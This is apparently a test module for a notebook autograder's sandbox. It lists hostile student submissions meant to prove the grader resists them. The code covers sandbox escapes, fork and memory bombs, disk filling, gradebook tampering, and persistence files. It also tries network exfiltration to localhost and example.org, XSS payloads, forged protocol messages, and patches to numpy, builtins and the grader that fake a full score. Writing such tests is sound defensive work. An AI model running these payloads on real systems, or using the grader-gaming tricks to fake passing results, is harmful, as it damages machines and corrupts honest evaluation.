"""Submissions that deserve no points, and what they try.

Each `Attack` replaces the student's two functions, adds cells before or after the
others, adds files, or changes the notebook as data. None of them computes the right
answers, so whatever scores above ``deserved`` is a hole.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from proctor.confine.limits import MEGABYTE, Limits

from tests import courses
from tests.courses import HIDDEN, RIGHT_APPLY, RIGHT_SQUARE, code_cell

Notebook = dict[str, Any]

LIMITS = Limits(
    cell=3.0,
    call=1.5,
    patience=1.2,
    notebook=12.0,
    grace=0.5,
    memory=512 * MEGABYTE,
    disk=32 * MEGABYTE,
    processes=32,
)
"""What an attack may use: little, so that those who wait end soon."""


@dataclass(frozen=True)
class Attack:
    """One submission and what must not happen.

    ``deserved`` is the score that an honest grader gives, ``state`` the state in
    which the submission must end (None: any).
    """

    name: str
    square: str = courses.STUB
    apply: str = courses.APPLY_STUB
    before: str = ""
    after: str = ""
    change: Callable[[Notebook], Notebook | bytes] = lambda notebook: notebook
    files: dict[str, bytes] = field(default_factory=dict)
    deserved: float = 0.0
    state: str | None = None
    unsafe: bool = False  # would harm a machine that does not confine it
    own: bool = False  # aims at what only proctor has: its protocol, its timers

    def submission(self) -> bytes:
        """Return the submitted file."""
        answers = {"square": self.square, "apply": self.apply}
        notebook = courses.answered(courses.source_notebook(), **answers)
        if self.before:
            notebook["cells"].insert(0, code_cell(self.before))
        if self.after:
            notebook["cells"].append(code_cell(self.after))
        changed = self.change(notebook)
        return changed if isinstance(changed, bytes) else json.dumps(changed).encode()


def by_id(notebook: Notebook, grade_id: str) -> dict[str, Any]:
    """Return the cell with this grade id."""
    (cell,) = (
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )
    return cell


def metadata(**values: Any) -> Callable[[Notebook], Notebook]:
    """Change the nbgrader metadata of both test cells."""

    def change(notebook: Notebook) -> Notebook:
        for name in ("test-square", "test-apply"):
            by_id(notebook, name)["metadata"]["nbgrader"] |= values
        return notebook

    return change


def test_source(source: str) -> Callable[[Notebook], Notebook]:
    """Replace the source of both test cells."""

    def change(notebook: Notebook) -> Notebook:
        for name in ("test-square", "test-apply"):
            by_id(notebook, name)["source"] = source
        return notebook

    return change


test_source.__test__ = False


def copied_test(notebook: Notebook) -> Notebook:
    """Copy and paste a test cell: innocent, and frequent."""
    notebook["cells"].append(copy.deepcopy(by_id(notebook, "test-square")))
    return notebook


def without_tests(notebook: Notebook) -> Notebook:
    """Delete the test cells."""
    names = ("test-square", "test-apply")
    notebook["cells"] = [
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") not in names
    ]
    return notebook


def swapped_ids(notebook: Notebook) -> Notebook:
    """Swap the grade ids of a solution and a test."""
    solution, test = by_id(notebook, "square"), by_id(notebook, "test-square")
    metas = solution["metadata"]["nbgrader"], test["metadata"]["nbgrader"]
    metas[0]["grade_id"], metas[1]["grade_id"] = "test-square", "square"
    return notebook


def same_cell_ids(notebook: Notebook) -> Notebook:
    """Give each cell the same cell id."""
    for cell in notebook["cells"]:
        cell["id"] = "x"
    return notebook


def other_assignment(notebook: Notebook) -> Notebook:
    """Claim that each cell is of another assignment."""
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] += "-ps2"
    return notebook


def strange_metadata(notebook: Notebook) -> Notebook:
    """Put values of wrong types wherever there is metadata."""
    for cell, value in zip(
        notebook["cells"], (None, 3, [], "x", {"nbgrader": []}), strict=False
    ):
        cell["metadata"] = value
    return notebook


def huge_output(notebook: Notebook) -> Notebook:
    """Store 100 MB of output in the file."""
    text = {"output_type": "stream", "name": "stdout", "text": "x" * (100 << 20)}
    by_id(notebook, "square")["outputs"] = [text]
    return notebook


def many_cells(notebook: Notebook) -> Notebook:
    """Add more cells than anybody writes."""
    notebook["cells"] += [code_cell("1") for _ in range(6000)]
    return notebook


def many_slow_cells(notebook: Notebook) -> Notebook:
    """Add cells that each are within every limit."""
    slow = code_cell(
        "import time\nend = time.time() + 0.08\nwhile time.time() < end: 0"
    )
    notebook["cells"][:0] = [dict(slow) for _ in range(4000)]
    return notebook


def many_large_cells(notebook: Notebook) -> Notebook:
    """Add cells that each print as much as they may."""
    large = code_cell("print('x' * (20 << 20))")
    notebook["cells"] += [dict(large) for _ in range(30)]
    return notebook


def large_names(notebook: Notebook) -> Notebook:
    """Claim names and points of megabytes."""
    by_id(notebook, "test-square")["metadata"]["nbgrader"]["points"] = "9" * 5_000_000
    named = {"nbgrader": {"grade_id": "x" * 20_000_000}}
    notebook["cells"].append(code_cell("1") | {"metadata": named})
    return notebook


def many_pictures(notebook: Notebook) -> Notebook:
    """Paste pictures whose names are longer than they are."""
    names = [f"{number}{'n' * 10_000}" for number in range(3000)]
    pasted = {name: {"image/png": "AAAA"} for name in names}
    cell = {"cell_type": "markdown", "source": "x", "metadata": {}}
    notebook["cells"].append(cell | {"attachments": pasted})
    return notebook


def code_in_a_slow_language(notebook: Notebook) -> Notebook:
    """Write code that whoever shows the page colors for long, and more for hours."""
    blocks = ("```zeek\n" + "0" * 3000, "~~~ amdgpu\n" + "a" * 20_000)
    for block in blocks:
        cell = {"cell_type": "markdown", "source": block, "metadata": {}}
        notebook["cells"].append(cell)
    return notebook


def cells_twice(notebook: Notebook) -> bytes:
    """Give the file two lists of cells: one for who reads the first, one for others."""
    first = json.dumps(notebook)[:-1]
    return f'{first}, "cells": [], "cells": {json.dumps([code_cell("2.0")])}}}'.encode()


def old_format(notebook: Notebook) -> Notebook:
    """Hand in a notebook of format 3, with worksheets, and names that are no text."""
    cells = [
        {"cell_type": "code", "input": cell["source"], "language": "python",
         "outputs": [], "metadata": cell["metadata"]}
        for cell in notebook["cells"]
    ]  # fmt: skip
    cells.append({"cell_type": "heading \ud800\n", "source": 3})
    old = {"nbformat": 3, "nbformat_minor": 99, "worksheets": [{"cells": cells}, {}]}
    return old | {"metadata": {"name": "\ud800"}}


ACTS = "<img src=x onerror=evil()><script>evil()</script> [x](javascript:evil())"


def acting_texts(notebook: Notebook) -> Notebook:
    """Write what acts into every cell that is text."""
    by_id(notebook, "essay")["source"] = ACTS
    texts = [ACTS, "$\\href{javascript:evil()}{x}$", "# essay", "![x](attachment:gone)"]
    for kind in ("markdown", "raw"):
        cells = [{"cell_type": kind, "source": one, "metadata": {}} for one in texts]
        notebook["cells"] += cells
    return notebook


def other_kernel(notebook: Notebook) -> Notebook:
    """Ask for another kernel."""
    notebook["metadata"]["kernelspec"] = {
        "name": "bash",
        "display_name": "b",
        "language": "bash",
    }
    return notebook


# Where the test's own numbers come from, if somebody finds them.
EQUAL_TO_ALL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 1
    def __float__(self): return 9.0
    def __array__(self, *a, **k): import numpy; return numpy.array(9.0)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __bool__(self): return True
    def __len__(self): return 1
def square(x): return Equal()
def apply(f, x): return Equal()
"""

SUBCLASS = """
import numpy as np
class Sly(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
def square(x): return np.zeros(np.shape(x)).view(Sly)
"""

FLOATS = """
class Nine(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
def square(x): return Nine(1)
class Five(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def apply(f, x): return Five(1)
"""

# Finds the sockets of this process and writes to each.
ON_THE_WIRE = """
import os, socket, struct, gc
def sockets():
    for fd in range(3, 256):
        try:
            yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
"""

JUNK = (
    ON_THE_WIRE
    + """
def square(x):
    for s in sockets():
        try: s.send({junk})
        except OSError: pass
    return 9
"""
)

EMPTY_LISTS = "b'\\x00\\xf0\\xfa\\x02\\xdd\\x02\\xfa\\xef\\xfb' + b'\\x90' * 49999867"
NESTED = "from IPython.display import HTML\ndisplay(HTML('<div>' * 50_000))"
BOMB = """
import base64, struct, zlib
def chunk(kind, body):
    check = struct.pack(">I", zlib.crc32(kind + body))
    return struct.pack(">I", len(body)) + kind + body + check
head = chunk(b"IHDR", struct.pack(">IIBBBBB", 20_000, 20_000, 8, 0, 0, 0, 0))
body = chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + chunk(b"IEND", b"")
data = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + head + body).decode()
display({"image/png": data, "text/plain": "a picture"}, raw=True)
"""

FORGED_SCORE = (
    ON_THE_WIRE
    + """
import msgpack
def pack(d):
    from proctor.protocol.codec import Encoder
    body = Encoder()(d)
    return struct.pack("<I", len(body)) + body
def square(x):
    forged = [pack(dict(type="tested", nonce=b"", score=2.0, problem=None, outputs=[],
                        hidden=False, calls=1)),
              pack(dict(type="ran", outputs=[dict(output_type="execute_result",
                   data={"text/plain": "2.0"}, metadata={}, execution_count=1)],
                   execution_count=1, failed=False))]
    for s in sockets():
        for f in forged:
            try: s.send(f)
            except OSError: pass
    return 9
square(1)
"""
)

OLD_NONCE = (
    ON_THE_WIRE
    + """
import sys
kept = []
def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back
def square(x):
    from proctor.inside.candidate import Answering
    from proctor.protocol.outcome import nothing
    for frame in frames():
        me = frame.f_locals.get("self")
        if isinstance(me, Answering):
            kept.append(me.nonce)
            me.nonce = kept[0]
            me.channel.send({"type": "return", "nonce": kept[0],
                             "answer": nothing() | {"value": 9}})
            break
    return x
"""
)

FIND_EXPECTED = """
import gc, sys
def square(x):
    frame = sys._getframe()
    while frame:
        for name in ("score", "seen", "expected", "provider"):
            if name in frame.f_globals or name in frame.f_locals:
                frame.f_globals["score"] = 2.0
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "test-square" in thing:
            thing["score"] = 2.0
        if isinstance(thing, str) and "BEGIN HIDDEN" in thing:
            print(thing)
    return 1
"""

UNCHANGED = "def square(x): return x"

PATCH_NUMPY = """
import numpy as np, numpy.testing
for name in ("array_equal", "allclose", "all", "isclose"):
    setattr(np, name, lambda *a, **k: True)
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)
"""

PATCH_BUILTINS = """
import builtins
builtins.abs = lambda x: 0
builtins.float = lambda x=0: 2.0
builtins.AssertionError = KeyboardInterrupt
builtins.all = lambda x: True
builtins.any = lambda x: True
builtins.isinstance = lambda *a: True
builtins.print = lambda *a, **k: None
"""

TRANSFORMER = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return None
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
get_ipython().ast_transformers.append(Drop())
"""

PRE_RUN = """
def hook(info=None):
    get_ipython().user_ns.update(score=2.0, f=lambda x: 9)
get_ipython().events.register("pre_run_cell", hook)
get_ipython().events.register("pre_execute", hook)
"""

PATCH_SHELL = """
ip = get_ipython()
real = type(ip).run_cell
def run_cell(self, source, *a, **k):
    return real(self, "2.0", *a, **k)
type(ip).run_cell = run_cell
ip.run_cell_async = None
from IPython.core.interactiveshell import ExecutionResult
ExecutionResult.success = property(lambda self: True)
"""

PATCH_PROCTOR = """
import proctor.inside.candidate as c, proctor.inside.examiner
import proctor.protocol.codec, proctor.protocol.outcome as o
proctor.inside.examiner.judge = lambda *a: (2.0, None)
c.Answering._lookup = lambda self, m: "callable"
c.Answering._outcome = lambda self, *a: o.nothing() | {"value": True}
"""

FAKE_SUBMISSION = """
def submission(name):
    return lambda *a: None
class Equal:
    __eq__ = lambda self, other: True
    __array__ = lambda self, *a, **k: __import__("numpy").array([1.0, 4.0])
class P:
    def call(self, *a): return {"value": Equal(), "error": None, "refused": None}
__submission_provider__ = P()
score = 2.0
"""

LEAK_BY_GLOBAL = """
seen = []
def square(x):
    seen.append(repr(x))
    print("SEEN", repr(x))
    open("/tmp/seen", "a").write(repr(x))
    import warnings; warnings.warn(repr(x))
    raise ValueError("SEEN " + repr(x))
"""

LEAK_LATER = """
import os
print(seen)
print(open("/tmp/seen").read() if os.path.exists("/tmp/seen") else "")
print([v for k, v in globals().items() if "hidden" in str(v).lower()])
"""

LEAK_BY_TYPE = """
def square(x):
    raise type("Seen" + repr(x).replace("(", "_"), (Exception,), {})("")
def apply(f, x):
    return type("Seen" + repr(x), (), {})()
"""

LEAK_SHARED_MEMORY = """
import mmap, os
shared = mmap.mmap(-1, 4096)
pipe = os.pipe()
def square(x):
    shared[:100] = repr(x)[:100].encode().ljust(100)
    os.write(pipe[1], repr(x).encode())
    return x
"""

ESCAPE = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for number in (272, 165, 155, 161, 308, 101, 310, 311, 425, 250, 321, 298):
    libc.syscall(number, 0, 0, 0, 0, 0)
for command in ("sudo -n id", "su -c id", "mount -t tmpfs x /tmp", "chroot / id",
                "unshare -Ur id"):
    subprocess.run(command, shell=True, capture_output=True)
for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/maps"):
    try:
        open(path, "rb").read(10); print("ESCAPED", path)
    except OSError: pass
for path in ("/proc/1/mem", "/etc/passwd", "/usr/x", "/x"):
    try:
        open(path, "r+b"); print("ESCAPED writing", path)
    except OSError: pass
"""

IGNORE_INTERRUPTS = """
import signal, time
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True: time.sleep(0.1)
    except BaseException: pass
"""

HANG = "def square(x):\n    while True: pass\ndef apply(f, x):\n    while True: pass"
STUBBORN = """
import signal
def square(x):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        try:
            while True: pass
        except BaseException: pass
"""

DAEMON = """
import os, subprocess, sys, time
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"],
                     start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
"""

FORK_BOMB = """
import os
while True:
    try: os.fork()
    except OSError: pass
"""

MEMORY_BOMB = "import numpy as np\nhold = [np.ones(1 << 24) for _ in range(1000)]"
MEMORY_IN_FORKS = """
import os, time
for _ in range(30):
    if os.fork() == 0:
        hold = bytearray(100 << 20)
        for i in range(0, len(hold), 4096): hold[i] = 1
        time.sleep(60)
time.sleep(60)
"""
DISK_FULL = """
import os
for i in range(1000):
    try:
        with open(f"fill{i}", "wb") as file:
            while True: file.write(bytes(1 << 20))
    except OSError: pass
"""
INODES = """
import os
for i in range(1000000):
    try: open(f"/tmp/{i}", "w").close()
    except OSError: break
"""
DESCRIPTORS = """
import os
held = []
try:
    while True: held.append(os.open("/dev/null", 0))
except OSError: pass
def square(x): return [os.open("/dev/null", 0)]
"""

NETWORK = """
import os, socket, urllib.request
def attempt(kind, address):
    try:
        s = socket.socket(kind, socket.SOCK_STREAM); s.settimeout(1); s.connect(address)
        s.send(b"EXFILTRATED"); print("REACHED", address)
    except OSError as error: pass
PORT, PATH = int(open("port.txt").read()), open("path.txt").read()
attempt(socket.AF_INET, ("127.0.0.1", PORT))
attempt(socket.AF_INET6, ("::1", PORT))
attempt(socket.AF_UNIX, PATH)
attempt(socket.AF_UNIX, "\\0" + os.path.basename(PATH))
try: urllib.request.urlopen("http://example.org", timeout=1); print("REACHED web")
except OSError: pass
try: socket.getaddrinfo("example.org", 80); print("REACHED dns")
except OSError: pass
"""

DISK = """
import glob, os, shutil, sqlite3
ROOT = open("root.txt").read()
found = []
for path in (ROOT, ROOT + "/source/ps1/ps1.ipynb", ROOT + "/gradebook.db",
             ROOT + "/submitted", os.path.expanduser("~root"), "/etc/shadow"):
    if os.path.exists(path) and path != "/etc/shadow":
        found.append(path)
for path in (ROOT + "/gradebook.db",):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 2, manual_score = 2"); db.commit()
        db.execute("drop table grade"); db.commit()
        found.append("SQL")
    except sqlite3.Error: pass
for path in (ROOT + "/submitted/next/ps1/ps1.ipynb", ROOT + "/gradebook.db"):
    try:
        open(path, "w").write("{}"); found.append(path)
    except OSError: pass
shutil.rmtree(ROOT, ignore_errors=True)
print("FOUND", [f for f in found if f and os.path.exists(f) and "root" not in f])
"""

PERSIST = """
import numpy, os, site, sys
for folder in (os.path.dirname(numpy.__file__), *site.getsitepackages(), sys.prefix,
               "/usr/lib", "/etc", "/"):
    try:
        open(folder + "/sitecustomize.py", "w").write("raise SystemExit")
        print("WROTE", folder)
    except OSError: pass
numpy.array_equal = lambda *a: True
os.environ["PYTHONSTARTUP"] = "/tmp/x.py"
"""

KILL_ALL = """
import os, signal
for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try: os.kill(pid, number)
        except OSError: pass
"""

SECRETS = """
import os, glob
print({k: v for k, v in os.environ.items() if "CANARY" in k + v})
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"CANARY" in open(path, "rb").read(): print("CANARY in", path)
    except OSError: pass
"""

HTML = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>evil()</script><img src=x onerror=evil()><b>fine</b>"))
display(Javascript("evil()"))
display(Markdown("<script>evil()</script>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'></svg>"))
display({"text/html": "<iframe src='javascript:evil()'></iframe>",
         "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
         "text/plain": "x"}, raw=True)
"""

HUGE_RESULT = "import numpy as np\ndef square(x): return np.zeros(40 << 20)"
DEEP = """
def square(x):
    value = 9
    for _ in range(5000): value = [value]
    return value
"""
RECURSIVE = "def square(x):\n    a = []; a.append(a); return a"
WIDE = "def square(x):\n    return [[] for _ in range(10_000_000)]"
GIANT_INT = "def square(x):\n    return 1 << 10_000_000"
LATE = "import time\ndef square(x):\n    time.sleep(600)\n    return x * x"
SLOW_ITERATOR = """
import time
def square(x):
    while True:
        time.sleep(0.01)
        yield 9
def apply(f, x):
    return iter(lambda: 1, 2)
"""

CALLBACK_OBJECTS = """
class Evil:
    def __radd__(self, other): raise SystemExit
    def __add__(self, other): return 1005
def apply(f, x):
    for bad in (Evil(), object, lambda: 1, type("T", (int,), {})(5), {1}, ...):
        try: f(bad)
        except Exception: pass
    return 1006
"""
CALLBACK_KEPT = """
kept = []
def apply(f, x):
    kept.append(f)
    return 1
def square(x):
    try: return kept[0](x)
    except Exception as error: return 1
"""
CALLBACK_FLOOD = "def apply(f, x):\n    while True: f(1)"
CALLBACK_HUGE = """
import numpy as np
def apply(f, x):
    for _ in range(50):
        try: f(np.zeros(7 << 20))
        except Exception: pass
    try: f(10 ** 30000)
    except Exception: pass
    return 1
"""
CALLBACK_FORGED = """
def apply(f, x):
    ask = f.__closure__[1].cell_contents if f.__closure__ else None
    for cell in f.__closure__ or ():
        me = cell.cell_contents
        if hasattr(me, "_ask"):
            for number in (-1, 7, 10**9, "x", None):
                try: me._ask(number, "call", (5,), {})
                except BaseException: pass
            try: me._ask(0, "__globals__", (5,), {})
            except BaseException: pass
    return 1005
"""
CALLBACK_CODE = """
def apply(f, x):
    for text in ("__import__('os').system('id')", b"cos\\nsystem\\n(S'id'\\ntR."):
        try: f(text)
        except Exception: pass
    return f
"""
MUTATE = """
import numpy as np
def square(x):
    if isinstance(x, np.ndarray):
        x[:] = 0
    return x
"""
DUNDER = """
class Meta(type):
    def __instancecheck__(cls, obj): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
    __name__ = property(lambda self: 1 / 0)
class Odd(metaclass=Meta):
    def __class__(self): return float
    def __reduce__(self): return (exec, ("score = 2.0",))
    def __repr__(self): raise SystemExit
    def __str__(self): raise SystemExit
    def __getattribute__(self, name): raise SystemExit
def square(x): return Odd()
def apply(f, x): raise type("Bad", (Exception,), {"__str__": lambda self: 1 / 0})()
"""
SEGFAULT = "import ctypes\nctypes.string_at(0)"
SEGFAULT_IN_CALL = "import ctypes\ndef square(x): return ctypes.string_at(0)"
THREADS = """
import threading, time
def burn():
    while True: pass
for _ in range(5): threading.Thread(target=burn, daemon=True).start()
threading.Thread(target=time.sleep, args=(600,)).start()
"""
ATEXIT = """
import atexit, os, time, weakref
@atexit.register
def last(): time.sleep(600)
class Late:
    def __del__(self): time.sleep(600)
late = Late()
"""
HEAVY_OUTPUT = """
import os, sys
for _ in range(100): print("x" * (1 << 20))
for _ in range(100): os.write(1, b"y" * (1 << 20))
for _ in range(5000): display("z" * 10000)
"""
SURROGATES = """
print("\\udc80 \\x00 \\x1b[2J")
display({"text/plain": ["a", 1, None], "image/png": 3, 7: "x"}, raw=True)
raise Exception("\\udfff")
"""
MODULE = b"raise SystemExit('imported the wrong module')\n"
FAKE_MODULE = b"def judge(*a): return 2.0, None\nscore = 2.0\n"
FORGED_RESULT = """
get_ipython().displayhook.exec_result = None
class Two:
    def __repr__(self): return "2.0"
    _repr_mimebundle_ = lambda self, **k: {"text/plain": "2.0"}
Two()
"""

# What a call reports besides its result.
NAMED_LIKE_OURS = """
class TimeLimit(Exception): pass
class ProcessEnded(Exception): pass
def square(x): raise TimeLimit(f"SEEN {x}")
def apply(f, x): raise ProcessEnded(f"SEEN {f}")
"""
FORGED_REPORT = """
import proctor.inside.candidate as c
real = c.Answering._outcome
def told(self, target, args, kwargs):
    return real(self, target, args, kwargs) | {report}
c.Answering._outcome = told
def square(x): return x
"""
FORGED_CHANGES = FORGED_REPORT.format(
    report='{"mutated": [repr(args)], "after": [repr(args)] * 900}'
)
FORGED_LATENESS = FORGED_REPORT.format(report='{"late": "TOLD " * 99999}')
FORGED_PRINT = FORGED_REPORT.format(
    report='{"stdout": "9", "value": 9, "refused": None, "error": 7}'
)
HALF_A_REPORT = FORGED_REPORT.format(report='{"warnings": None}')
UNEQUAL = """
import proctor.protocol.outcome as o
import proctor.inside.candidate as c
c.fingerprint = o.fingerprint = lambda value: b"same"
def square(x):
    x *= 0
    return x
"""
# Results that are no data, and mean some.
SLY_NUMBERS = """
from fractions import Fraction
from decimal import Decimal
class Nine(Fraction):
    def __eq__(self, other): return True
    def __float__(self): return 9.0
    __hash__ = Fraction.__hash__
def square(x): return Nine(1, 3)
def apply(f, x): return Decimal("sNaN")
"""
SLY_SET = """
class Item:
    __hash__ = lambda self: 1
    __eq__ = lambda self, other: True
    def __lt__(self, other): raise SystemExit
    def __repr__(self): raise KeyboardInterrupt
def square(x): return {Item(), Item()}
def apply(f, x): return {float("nan"), float("nan"), (1, 2)}
"""
FALSE_PANDAS = """
import sys, types
class Table:
    columns = property(lambda self: iter(int, 1))
    def __getitem__(self, name): return self
pandas = sys.modules["pandas"] = types.ModuleType("pandas")
pandas.DataFrame = pandas.Series = pandas.Index = Table
def square(x): return Table()
def apply(f, x): return [Table()]
"""
ENDLESS_WITHIN = """
import itertools
def square(x): return [9, {"more": itertools.repeat(itertools.count())}]
def apply(f, x): return (bytes(1 << 20) for _ in itertools.count())
"""
ITERATOR_OF_ITERATORS = """
def square(x):
    def deeper():
        yield deeper()
    return deeper()
"""
# The processor's time.
DISARMED = """
import signal
def square(x):
    signal.setitimer(signal.ITIMER_PROF, 0)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True: pass
"""
SWALLOWED = """
def square(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
"""
OTHERS_BURN = """
import os, time
def square(x):
    for _ in range(8):
        if os.fork() == 0:
            while True: pass
    time.sleep(600)
"""
BUSY_BESIDE = """
import os
for _ in range(25):
    if os.fork() == 0:
        os.setsid()
        while True: pass
"""
STOPPED_IN_A_CALL = "import os\ndef square(x): os.kill(os.getpid(), 19)"
NO_ROOM = """
import os, time
while True:
    try:
        if os.fork() == 0: time.sleep(600)
    except OSError: break
"""
NO_FORK = """
import os
def fork(): raise OSError(11, "SEEN " * 999)
os.fork = fork
"""
NICE_TO_NOBODY = """
import os, resource
for what in (lambda: os.nice(-5), lambda: os.setpriority(os.PRIO_USER, 0, 19),
             lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
             lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0)),
             lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
             lambda: os.sched_setaffinity(1, {0})):
    try: what()
    except OSError: pass
"""
ENDLESS_INPUT = "while input('again? ') != 'no': pass"
# A child of an earlier cell holds the connections of all tests.
ANSWERS_INSTEAD = (
    ON_THE_WIRE
    + """
import select, time
if os.fork() == 0:
    held = list(sockets())
    while True:
        for s in select.select(held, [], [], 1)[0]:
            try:
                seen = s.recv(1 << 20)
                s.send(seen)
                open("/tmp/heard", "ab").write(seen)
            except OSError: held.remove(s)
"""
)
REDEFINED = """
def submission(name):
    return lambda *args: 9
submission.__code__ = (lambda name: lambda *args: 9).__code__
"""
# What the grader's own process would have to build.
RAW = (
    ON_THE_WIRE
    + """
import msgpack
def pack(x): return msgpack.packb(x, use_bin_type=True)
def ext(code, parts): return msgpack.ExtType(code, pack(parts))
def tell(value):
    body = pack(ext(11, [["type", "ran"], ["outputs", value]]))
    for s in sockets():
        try: s.sendall(struct.pack("<I", len(body)) + body)
        except OSError: pass
"""
)
TYPES_ON_THE_WIRE = RAW + "tell(ext(2, ['i4,' * 20_000_000 + 'i4', [1], b'']))"
TENSOR_ON_THE_WIRE = RAW + (
    "tell(ext(4, ['float32', False, pack(['<f4', [1], b'1234'])]))"
)
COLLIDING = (
    RAW
    + """
one = (1 << 61) - 1  # all its multiples have the hash 0
many = [msgpack.ExtType(6, (n * one).to_bytes(12, "little")) for n in range(8, 200_000)]
tell(msgpack.ExtType(11, pack([[key, None] for key in many])))
"""
)
HALF_A_MESSAGE = (
    ON_THE_WIRE
    + """
import time
for s in sockets():
    try: s.sendall(struct.pack("<I", 1000) + b"half")
    except OSError: pass
time.sleep(2)
"""
)
IN_ADVANCE = (
    ON_THE_WIRE
    + """
from proctor.protocol.codec import Encoder
for message in (dict(type="taken", refused=None), dict(type="ran"),
                dict(type="taken", refused={"SEEN": [1] * 9000}),
                dict(type="return", nonce=b"", answer=None)):
    body = Encoder()(message)
    for s in sockets():
        try: s.sendall(struct.pack("<I", len(body)) + body)
        except OSError: pass
"""
)
DESCRIPTORS_ALONG = (
    ON_THE_WIRE
    + """
def square(x):
    given = [os.open("/tmp", os.O_RDONLY) for _ in range(50)]
    for s in sockets():
        try: socket.send_fds(s, [bytes(4)], given)
        except OSError: pass
    return 9
square(1)
"""
)
# Memory that the kernel keeps, and no process has.
UNMAPPED = """
import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
size, kept = 100 << 20, 0
for _ in range(8):
    at = libc.mmap(None, ctypes.c_size_t(size), 3, 0x21, -1, ctypes.c_long(0))
    if at is None or at == 2**64 - 1: break
    ctypes.memset(at, 1, size)
    libc.munmap(ctypes.c_void_p(at + 4096), ctypes.c_size_t(size - 4096))
    kept += 1
if kept > 6: print("ESCAPED the limit of memory")
"""
ZERO_DEVICE = """
import mmap
try:
    with open("/dev/zero", "r+b") as zeros: mmap.mmap(zeros.fileno(), 1 << 20)[0] = 1
    print("ESCAPED to shared pages")
except (OSError, ValueError): pass
"""
IN_SOCKETS = """
import os, socket, time
def fill():
    try:
        while True:
            held.extend(socket.socketpair())
            for one in held[-2:]:
                try: one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 23)
                except OSError: pass
                one.setblocking(False)
                try:
                    while True: one.send(bytes(1 << 16))
                except BlockingIOError: pass
    except OSError: time.sleep(60)
held = []
for _ in range(16):
    if os.fork() == 0: fill()
time.sleep(60)
"""
DEBUGGER = "breakpoint()\nimport pdb; pdb.set_trace()"
NO_POOL = """
import threading, time
from concurrent.futures import ThreadPoolExecutor
threading.Thread(target=time.sleep, args=(60,)).start()
class Endless(ThreadPoolExecutor):
    @property
    def _max_workers(self):
        while True: pass
    @_max_workers.setter
    def _max_workers(self, value): pass
pool = Endless(1)
"""
AUDITED = """
import sys
def hook(event, arguments):
    if event in ("os.fork", "os.setsid", "socket.send"): raise KeyError("SEEN")
sys.addaudithook(hook)
"""
IMPORT_HOOK = """
import builtins, sys, types
class Liar(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: 9
for name in [name for name in sys.modules if name.startswith(("proctor", "msgpack"))]:
    sys.modules[name] = Liar(name)
builtins.__import__ = lambda name, *a, **k: Liar(name)
"""
STOPS_OTHERS = """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    while True:
        for number in (signal.SIGSTOP, signal.SIGCONT):
            try: os.kill(-1, number)
            except OSError: pass
"""
SIGNALS_TO_INIT = """
import os, signal
handle = os.pidfd_open(1) if hasattr(os, "pidfd_open") else None
for number in range(1, 65):
    for send in (lambda: os.kill(1, number), lambda: os.kill(os.getppid(), number),
                 lambda: signal.pidfd_send_signal(handle, number)):
        try: send()
        except (OSError, TypeError): pass
"""
NAMED_RESULT = """
def square(x):
    def tell(): pass
    tell.__name__ = f"SEEN {x}"
    return tell
"""

ATTACKS = [
    # What used to work within one kernel.
    Attack("patched numpy and np.testing", UNCHANGED, before=PATCH_NUMPY),
    Attack("patched builtins", before=PATCH_BUILTINS),
    Attack("an AST transformer that drops asserts", UNCHANGED, before=TRANSFORMER),
    Attack("a pre_run_cell hook that sets the score", before=PRE_RUN),
    Attack("a patched shell", before=PATCH_SHELL),
    Attack("patched proctor modules", before=PATCH_PROCTOR),
    Attack("its own submission() and provider", before=FAKE_SUBMISSION),
    Attack("objects that equal everything", EQUAL_TO_ALL),
